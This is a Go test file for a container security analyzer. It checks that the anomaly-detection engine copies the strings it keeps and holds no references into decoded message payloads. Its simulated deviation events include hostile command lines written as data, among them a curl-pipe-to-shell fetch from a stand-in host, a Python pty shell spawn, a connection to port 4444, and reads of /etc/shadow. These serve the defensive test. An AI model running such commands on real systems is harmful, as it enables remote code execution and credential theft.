package analyzer

import (
	"fmt"
	"reflect"
	"testing"
	"unsafe"

	"github.com/containsec/contain/internal/bus"
	"github.com/containsec/contain/schemas/containv1"
)

// payloads records the message payloads that aliased events point into.
type payloads [][]byte

// alias returns ev as the analyzer's consumer hands it over: decoded by
// bus.DecodeAliased from its own payload, every string and bytes field
// pointing into that payload.
func (p *payloads) alias(t testing.TB, ev *containv1.Event) *containv1.Event {
	t.Helper()
	data, err := bus.Encode(&containv1.Batch{SchemaVersion: containv1.SchemaVersion, Host: "h1", Stage: "enricher", ProducerId: "p", Seq: 1,
		Events: []*containv1.Event{ev}})
	if err != nil {
		t.Fatal(err)
	}
	b, err := bus.DecodeAliased(data)
	if err != nil {
		t.Fatal(err)
	}
	*p = append(*p, data)
	return b.Events[0]
}

func (p payloads) holds(ptr unsafe.Pointer) bool {
	for _, b := range p {
		if len(b) > 0 && uintptr(ptr) >= uintptr(unsafe.Pointer(&b[0])) && uintptr(ptr) < uintptr(unsafe.Pointer(&b[0]))+uintptr(len(b)) {
			return true
		}
	}
	return false
}

// pinned lists the paths, under v, of strings and byte slices that point
// into one of the payloads: what a consumer keeps of a message (and so
// keeps the whole message in memory).
func (p payloads) pinned(v reflect.Value) []string {
	var out []string
	seen := map[uintptr]bool{}
	var walk func(v reflect.Value, path string, depth int)
	walk = func(v reflect.Value, path string, depth int) {
		if depth > 40 || len(out) > 400 {
			return
		}
		switch v.Kind() {
		case reflect.String:
			if s := v.String(); len(s) > 0 && p.holds(unsafe.Pointer(unsafe.StringData(s))) {
				out = append(out, fmt.Sprintf("%s = %q", path, s))
			}
		case reflect.Slice:
			if v.Len() == 0 {
				return
			}
			if v.Type().Elem().Kind() == reflect.Uint8 {
				if p.holds(v.UnsafePointer()) {
					out = append(out, path+" (bytes)")
				}
				return
			}
			if seen[uintptr(v.UnsafePointer())] {
				return
			}
			seen[uintptr(v.UnsafePointer())] = true
			for i := range v.Len() {
				walk(v.Index(i), fmt.Sprintf("%s[%d]", path, i), depth+1)
			}
		case reflect.Array:
			for i := range v.Len() {
				walk(v.Index(i), fmt.Sprintf("%s[%d]", path, i), depth+1)
			}
		case reflect.Pointer:
			if v.IsNil() || seen[v.Pointer()] {
				return
			}
			seen[v.Pointer()] = true
			walk(v.Elem(), path, depth+1)
		case reflect.Interface:
			if !v.IsNil() {
				walk(v.Elem(), path, depth+1)
			}
		case reflect.Map:
			if v.IsNil() || seen[v.Pointer()] {
				return
			}
			seen[v.Pointer()] = true
			it := v.MapRange()
			for it.Next() {
				k := fmt.Sprint(it.Key())
				walk(it.Key(), path+"{key "+k+"}", depth+1)
				walk(it.Value(), path+"["+k+"]", depth+1)
			}
		case reflect.Struct:
			for i := range v.NumField() {
				walk(v.Field(i), path+"."+v.Type().Field(i).Name, depth+1)
			}
		}
	}
	walk(v, "", 0)
	return out
}

// TestEngineKeepsNoPayload: the analyzer decodes with bus.DecodeAliased
// (AliasPayload), so every string it keeps past Observe must be its own
// copy, or a baseline item would keep a whole message in memory. A
// learning period and deviations of every kind the engine scores go
// through aliased events; then no string or byte slice in the engine
// (baselines, containers, incidents, sequence model, alerts) may point
// into a payload.
func TestEngineKeepsNoPayload(t *testing.T) {
	var p payloads
	e := newEngine(t, testConfig(), nil)
	obs := func(ev *containv1.Event) []*containv1.Event { return e.Observe(p.alias(t, ev)) }
	var alerts []*containv1.Event
	for _, ctr := range []string{"c1", "c2"} {
		obs(ctrEv(ctr, sec(0), "demo:1", "sha256:aaaa", map[string]string{"io.kubernetes.pod.name": "web-1", "io.kubernetes.pod.namespace": "shop", "app": "web"}))
		obs(execEv(ctr, sec(0), "/bin/httpd", "/bin/httpd", "-f", "-p", "8080"))
		obs(netEv(ctr, sec(0.1), containv1.Network_OP_LISTEN, [4]byte{0, 0, 0, 0}, 8080))
		for i, s := range []string{"read", "write", "accept4", "openat", "close"} {
			obs(sysEv(ctr, sec(0.2+float64(i)/100), s))
		}
		obs(seqEv(ctr, sec(0.25), 7, 1, 2, 3, 4, 1, 2, 3, 4))
		obs(netEv(ctr, sec(0.3), containv1.Network_OP_CONNECT, [4]byte{10, 0, 0, 5}, 5432))
		obs(fileEv(ctr, sec(0.4), containv1.File_OP_OPEN_WRITE, "/var/www/cache/x"))
		obs(fileEv(ctr, sec(0.45), containv1.File_OP_CREATE, "/var/www/cache/y/z"))
		fork := base(ctr, sec(0.5))
		fork.Kind = containv1.Kind_KIND_PROCESS
		fork.Body = &containv1.Event_Process{Process: &containv1.ProcessLifecycle{Proc: &containv1.Process{Pid: 11, Tgid: 11, Ppid: 10, Comm: "httpd"}, Op: containv1.ProcessLifecycle_OP_FORK, ChildTgid: 12}}
		obs(fork)
		for i := 1; i <= 2; i++ {
			obs(execEv(ctr, sec(float64(i)), "/bin/sleep", "sleep", "1"))
		}
	}
	for i, ev := range []*containv1.Event{
		execEv("c1", sec(5), "/tmp/.x1", "/tmp/.x1", "-c", "203.0.113.7:4444"),
		execEv("c1", sec(5.1), "/bin/sh", "sh", "-c", "curl http://203.0.113.9/x | sh"),
		execEv("c1", sec(5.2), "/usr/bin/python3", "python3", "-c", "import socket,pty;pty.spawn('/bin/sh')"),
		sysEv("c1", sec(5.3), "unshare"),
		sysEv("c1", sec(5.3), "ioctl"),
		seqEv("c1", sec(5.35), 7, 9, 8, 7, 6, 5),
		netEv("c1", sec(5.4), containv1.Network_OP_CONNECT, [4]byte{10, 9, 9, 9}, 4444),
		netEv("c2", sec(5.4), containv1.Network_OP_CONNECT, [4]byte{10, 9, 9, 8}, 4443),
		netEv("c1", sec(5.5), containv1.Network_OP_LISTEN, [4]byte{}, 31337),
		fileEv("c1", sec(5.6), containv1.File_OP_OPEN_WRITE, "/etc/passwd"),
		fileEv("c1", sec(5.6), containv1.File_OP_OPEN_WRITE, "/etc/app.conf"),
		fileEv("c2", sec(5.7), containv1.File_OP_CREATE, "/data/dump/x"),
		fileEv("c2", sec(5.8), containv1.File_OP_OPEN_READ, "/etc/shadow"),
		fileEv("c2", sec(5.9), containv1.File_OP_CHMOD, "/tmp/.x2"),
		execEv("c2", sec(6), "/tmp/.x2", "/tmp/.x2"),
	} {
		out := obs(ev)
		if i == 0 && len(out) == 0 {
			t.Fatal("the first deviation did not alert: the stream does not reach scoring")
		}
		alerts = append(alerts, out...)
	}
	e.devs = nil // scratch of the last event, not kept
	if bad := p.pinned(reflect.ValueOf(e)); len(bad) > 0 {
		for _, b := range bad {
			t.Errorf("engine keeps a payload: %s", b)
		}
	}
	if bad := p.pinned(reflect.ValueOf(alerts)); len(bad) > 0 {
		for _, b := range bad {
			t.Errorf("alert keeps a payload: %s", b)
		}
	}
}
